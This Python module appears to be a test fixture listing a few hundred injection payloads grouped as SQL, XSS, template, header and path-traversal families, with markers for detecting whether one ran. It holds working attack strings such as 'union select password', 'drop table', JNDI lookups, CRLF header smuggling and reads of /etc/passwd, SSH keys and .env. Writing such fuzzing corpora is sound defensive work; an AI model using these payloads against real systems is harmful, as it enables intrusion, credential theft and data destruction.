"""What is typed by who means harm: more than three hundred spellings of injections, each corpus as a tuple.

`SPRUNG` is what a browser would have run, `SUM` what a template would have computed; neither is in any payload as text.
"""

MARKED = "xss7f3a"
SUM = "9801547"  # 1337 * 7331

_TAILS = ("", " --", "#", "/*", ";--")
_QUOTES = ("'", '"', "')", '")', "';", "`", "%27", "\\'", "1", "1)", "＇")
_SQL = ("or 1=1", "union select password from kit_staff", "and pg_sleep(3) is null", "; select pg_sleep(3)")
SQL = (
    *(f"{quote} {word}{tail}" for quote in _QUOTES for word in _SQL for tail in _TAILS[:3]),
    *(
        "'||(select version())||'",
        "1;drop table kit_staff",
        "$$",
        "$a$ $a$",
        "\\",
        "%",
        "_",
        "%%",
        "%s",
        "%(a)s",
        "{0}",
    ),
    *("1e999", "NaN", "Infinity", "-0", "1/0", "0x1F", "1::text", "null", "NULL", "true", "[]", "{}", "()", "*", "?"),
    *("a & b | !c", "a:*", "a <-> b", "\\x00", "E'\\x27'", "U&'\\0027'", "now()", "infinity", "epoch", "'infinity'"),
    *("Asia/Shanghai'; select 1", "UTC'||pg_sleep(3)||'", "_connector", "__class__", "name__regex=(a+)+$", "(a+)+$"),
)

_CALL = f"window.{MARKED}=1"
_EVENTS = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "object data=x")
XSS = (
    *(f"<{tag} {event}={_CALL}>" for tag in _TAGS for event in _EVENTS),
    *(f'"><{tag} {event}="{_CALL}">' for tag in _TAGS[:4] for event in _EVENTS[:4]),
    *(f"' {event}='{_CALL}' x='" for event in _EVENTS),
    *(f'" {event}="{_CALL}" x="' for event in _EVENTS),
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script src=//127.0.0.1:9/{MARKED}></script>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href='java\tscript:{_CALL}'>x</a>",
    f"javascript:{_CALL}//",
    f"data:text/html,<script>{_CALL}</script>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
    f"<math><mi xlink:href='javascript:{_CALL}'>x",
    f"<form action=javascript:{_CALL}><button>x",
    f"<meta http-equiv=refresh content='0;javascript:{_CALL}'>",
    f"<base href=//127.0.0.1:9/{MARKED}>",
    f"<link rel=stylesheet href=//127.0.0.1:9/{MARKED}>",
    f"<style>@import '//127.0.0.1:9/{MARKED}'</style>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<svg><style><img src=x onerror={_CALL}></style>",
    f"<![CDATA[><img src=x onerror={_CALL}>]]>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"\u2028{_CALL}\u2029",
    f"＜script＞{_CALL}＜/script＞",
    f"<div hx-get=/ hx-on::load='{_CALL}' hx-trigger=load>x</div>",
    f"<img src=x id=hx-headers name=csrf onerror={_CALL}>",
    f"\\u003cscript\\u003e{_CALL}",
    f"&lt;script&gt;{_CALL}",
    f"&#60;img src=x onerror={_CALL}&#62;",
)

TEMPLATE = (
    *(
        f"{left}1337*7331{right}"
        for left, right in (("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{{=", "}}"))
    ),
    *(f"{left}1337*7331{right}" for left, right in (("[[", "]]"), ("*{", "}"), ("@(", ")"), ("{%", "%}"), ("~{", "}"))),
    *("{{1337|add:9800210}}", "{% widthratio 1337 1 7331 %}", "{% debug %}", "{{request}}", "{{settings.SECRET_KEY}}"),
    *(
        "{% load static %}",
        "{% include '/etc/passwd' %}",
        "{% extends 'x' %}",
        "{{''.__class__.__mro__}}",
        "{{csrf_token}}",
    ),
    *("{0.__class__}", "%(password)s", "$where", "${jndi:ldap://127.0.0.1:9/a}", "{{7*'7'}}", "{{config}}", "{{self}}"),
    *(
        "{{cycler.__init__.__globals__}}",
        "{{ ''|attr('x') }}",
        "<%import os%>",
        "{php}",
        "{{#with}}",
        "{{constructor}}",
    ),
)

HEADER = (
    *(
        f"a{end}Set-Cookie: {MARKED}=1"
        for end in ("\r\n", "\n", "\r", "%0d%0a", "%0a", "\u2028", "\u0085", "\x0b", "\x0c")
    ),
    *(f"a{end}{end}<script>{MARKED}" for end in ("\r\n", "\n", "%0d%0a")),
    *(
        "a\r\nBcc: evil@example.com",
        "a\nTo: evil@example.com",
        "=?utf-8?q?=0aBcc:x?=",
        "a\0b",
        "嘊嘍Set-Cookie: x=1",
        "\x1b[31m",
    ),
)

_UP = ("../", "..\\", "%2e%2e/", "%252e%252e%252f", "....//", "..;/", "..%c0%af", "..%00/", "．．/", "‥/")
PATH = (
    *(f"{up * depth}{goal}" for up in _UP for depth in (1, 6) for goal in ("etc/passwd", "secret_key")),
    *("/etc/passwd", "//etc/passwd", "C:\\boot.ini", "\\\\127.0.0.1\\c$", "file:///etc/passwd", "/proc/self/environ"),
    *(
        "~/.ssh/id_rsa",
        ".git/config",
        ".env",
        "web.config",
        "CON",
        "NUL.txt",
        "a.php\0.txt",
        "a.html%00.png",
        "x/../../y",
    ),
)

FAMILIES = {"SQL": SQL, "XSS": XSS, "template": TEMPLATE, "header": HEADER, "path": PATH}
EVERY = tuple(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
